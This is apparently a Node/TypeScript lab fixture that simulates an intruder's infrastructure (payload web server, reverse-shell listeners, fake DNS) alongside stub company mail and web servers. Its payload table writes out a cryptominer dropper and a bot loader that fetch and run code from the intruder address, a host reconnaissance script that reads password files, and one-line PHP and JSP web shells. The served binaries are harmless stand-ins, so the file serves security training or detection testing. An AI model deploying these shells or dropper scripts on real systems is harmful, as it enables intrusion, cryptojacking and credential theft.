/**
 * The other machines of a lab, all in one program in the lab's network: an intruder's host with a web server for payloads,
 * listeners for shells and a name server that answers for its domain, and the company's own mail and web servers.
 * Runs outside of the lab's process tree; prints a line once it listens.
 */
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type Socket } from 'node:net';
import { once } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';

const INTRUDERS = ['203.0.113.66', '198.51.100.23'];
const [INTRUDER = ''] = INTRUDERS;
const COMPANY = '192.0.2.80';
const SHELL_PORTS = [4444, 9001, 1337, 53, 443];

/** What is typed into a shell that connects. */
const TYPED = ['id', 'uname -a', 'ls -la /home', 'exit'];

const program = readFileSync('/bin/true');
/** Only connects to where it is told: what a bot is seen doing. */
const connector = readFileSync('/usr/bin/ncat');
const script = (...lines: string[]): string => `#!/bin/sh\n${lines.join('\n')}\n`;
const PAYLOADS: Readonly<Record<string, string | Buffer>> = {
  '/i.sh': script(
    'cd /tmp || cd /var/tmp',
    'pkill -u nobody -f kinsing',
    `curl -s http://${INTRUDER}/xmrig -o kworkerds || wget -q http://${INTRUDER}/xmrig -O kworkerds`,
    'chmod +x kworkerds',
    './kworkerds -o pool.example:3333 -u 4xyz --donate-level 1',
    'rm -f kworkerds'
  ),
  '/ldr.sh': script(
    'ulimit -n 65535',
    'rm -rf /var/tmp/.ice',
    'mkdir -p /var/tmp/.ice',
    `wget -q -O /var/tmp/.ice/bioset http://${INTRUDER}/bot.x86_64`,
    'chmod 777 /var/tmp/.ice/bioset',
    '/var/tmp/.ice/bioset http.exploit'
  ),
  '/lp.sh': script(
    'id; uname -a; cat /etc/os-release; hostname',
    'ps aux | head -50',
    'find / -xdev -perm -4000 -type f 2>/dev/null | head -20',
    'getcap -r /usr/bin 2>/dev/null',
    'cat /etc/crontab; ls -la /etc/cron.d',
    'grep -i pass /etc/*.conf 2>/dev/null | head',
    'ls -la /home /root 2>/dev/null',
    'cat /etc/passwd | cut -d: -f1'
  ),
  '/c.php': '<?php @eval($_POST["c"]); ?>',
  '/c.jsp': '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
  '/a.py': 'import os\nos.system("id")\n',
  '/a.pl': 'system("id");\n',
  '/e.c': 'int main(void){return 0;}\n',
  '/kworker': connector,
  '/xmrig': program,
  '/bot.x86_64': program,
  '/chisel': program,
  '/linux64': program,
  '/k.pub': 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFakeFakeFakeFake x\n',
};

const serveWeb = (address: string, port: number): Promise<unknown> =>
  once(
    createHttpServer((request, response) => {
      request.resume().once('end', () => {
        const payload = PAYLOADS[request.url?.split('?')[0] ?? ''];
        response.writeHead(address !== COMPANY && payload === undefined ? 404 : 200);
        response.end(payload ?? '{"status":"ok","version":"3.2.1"}\n');
      });
    }).listen(port, address),
    'listening'
  );

const typeInto = async (shell: Socket): Promise<void> => {
  shell.on('error', () => undefined).resume();
  await wait(150);
  for (const line of TYPED) {
    shell.write(`${line}\n`);
    await wait(120);
  }
  shell.end();
};
const serveShells = (port: number, address: string): Promise<unknown> =>
  once(createServer((shell) => void typeInto(shell)).listen(port, address), 'listening');

/** Just enough of SMTP for a client to be content. */
const serveMail = (port: number): Promise<unknown> =>
  once(
    createServer((client) => {
      let isData = false;
      client.on('error', () => undefined).write('220 mail ready\r\n');
      client.on('data', (chunk) => {
        for (const line of chunk.toString().split('\r\n').slice(0, -1)) {
          if (isData && line !== '.') continue;
          const verb = line.slice(0, 4).toUpperCase();
          isData = verb === 'DATA';
          const answer = isData ? '354 go' : verb === 'QUIT' ? '221 bye' : '250 ok';
          client.write(`${answer}\r\n`);
        }
      });
    }).listen(port, '127.0.0.1'),
    'listening'
  );

const serveWhois = (): Promise<unknown> =>
  once(
    createServer((client) => client.on('error', () => undefined).end('domain: example\r\n')).listen(
      43,
      COMPANY
    ),
    'listening'
  );

/** Answers every question for an address: the intruder's domain with its host, others with the company's. */
const serveNames = async (): Promise<void> => {
  const socket = createSocket('udp4');
  socket.on('message', (question, { port, address }) => {
    const end = question.indexOf(0, 12) + 5;
    const name = question.subarray(12, end).toString('latin1');
    const isAddress = question.readUInt16BE(end - 4) === 1;
    const answer = Buffer.alloc(isAddress ? 16 : 0);
    if (isAddress) {
      answer.set([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
      const host = /oast|evil|pool/.test(name) ? INTRUDER : COMPANY;
      answer.set(host.split('.').map(Number), 12);
    }
    const head = Buffer.from(question.subarray(0, end));
    head.writeUInt16BE(0x8180, 2);
    head.writeUInt16BE(isAddress ? 1 : 0, 6);
    head.fill(0, 8, 12);
    socket.send(Buffer.concat([head, answer]), port, address);
  });
  socket.bind(53, '127.0.0.1');
  await once(socket, 'listening');
};

await Promise.all([
  ...INTRUDERS.flatMap((address) => [
    serveWeb(address, 80),
    serveWeb(address, 8000),
    ...SHELL_PORTS.map((port) => serveShells(port, address)),
  ]),
  serveWeb(COMPANY, 80),
  serveMail(25),
  serveWhois(),
  serveNames(),
]);
console.log('listening');
